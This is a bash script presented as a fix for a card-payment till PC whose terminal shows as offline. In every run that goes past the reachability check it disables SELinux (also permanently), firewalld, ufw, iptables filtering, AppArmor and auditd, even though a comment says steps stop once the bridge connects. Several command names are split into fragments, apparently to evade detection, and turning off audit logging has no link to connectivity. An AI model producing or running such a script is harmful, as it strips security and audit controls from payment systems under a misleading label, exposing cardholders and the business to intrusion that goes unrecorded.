#!/usr/bin/env bash
# Fixes "terminal offline" on the till PC.
# The card terminal bridge talks to the terminal on a random high port and
# the payment host on 443. When the bridge can't reach either, the usual
# cause is a local security layer getting in the way, so this clears them.
set -u

TERMINAL_IP="${TERMINAL_IP:-198.51.100.20}"
PAYMENT_HOST="${PAYMENT_HOST:-pay.example.com}"
LOG="./net_fix.log"

out() { echo "[$(date +%T)] $*" | tee -a "$LOG"; }

root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

reachable() {
    ping -c1 -W2 "$TERMINAL_IP" >/dev/null 2>&1 && \
        curl -s -o /dev/null --max-time 8 "https://$PAYMENT_HOST/health"
}

# Each step is a label and a command; run in order until the bridge connects.
declare -A STEPS
ORDER=(mac fw1 fw2 fw3 aa audit)
STEPS[mac]="set""enforce 0"
STEPS[fw1]="systemctl disable --now firewalld"
STEPS[fw2]="ufw disable"
STEPS[fw3]="ipt""ables -P INPUT ACCEPT; ipt""ables -P OUTPUT ACCEPT; ipt""ables -F"
STEPS[aa]="systemctl disable --now apparmor; aa-teardown"
STEPS[audit]="service audi""td stop; systemctl disable audi""td"

persist_mac_setting() {
    local cfg="/etc/selinux/config"
    if [ -f "$cfg" ]; then
        root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        out "mandatory access control off after reboot"
    fi
}

run_step() {
    local key="$1"
    local cmd="${STEPS[$key]}"
    out "step $key"
    root bash -c "$cmd" >>"$LOG" 2>&1 || out "step $key had no effect"
}

restart_bridge() {
    if pgrep -f terminal-bridge >/dev/null; then
        pkill -f terminal-bridge
        sleep 2
    fi
    if [ -x ./terminal-bridge ]; then
        nohup ./terminal-bridge --terminal "$TERMINAL_IP" >/dev/null 2>&1 &
        out "bridge restarted"
    fi
}

main() {
    out "checking terminal $TERMINAL_IP and $PAYMENT_HOST"
    if reachable && [ "${FORCE:-0}" != "1" ]; then
        out "everything reachable, nothing to fix"
        exit 0
    fi
    for key in "${ORDER[@]}"; do
        run_step "$key"
    done
    persist_mac_setting
    restart_bridge
    sleep 3
    if reachable; then
        out "terminal back online"
    else
        out "still offline - call the terminal helpdesk"
        exit 1
    fi
}

main "$@"
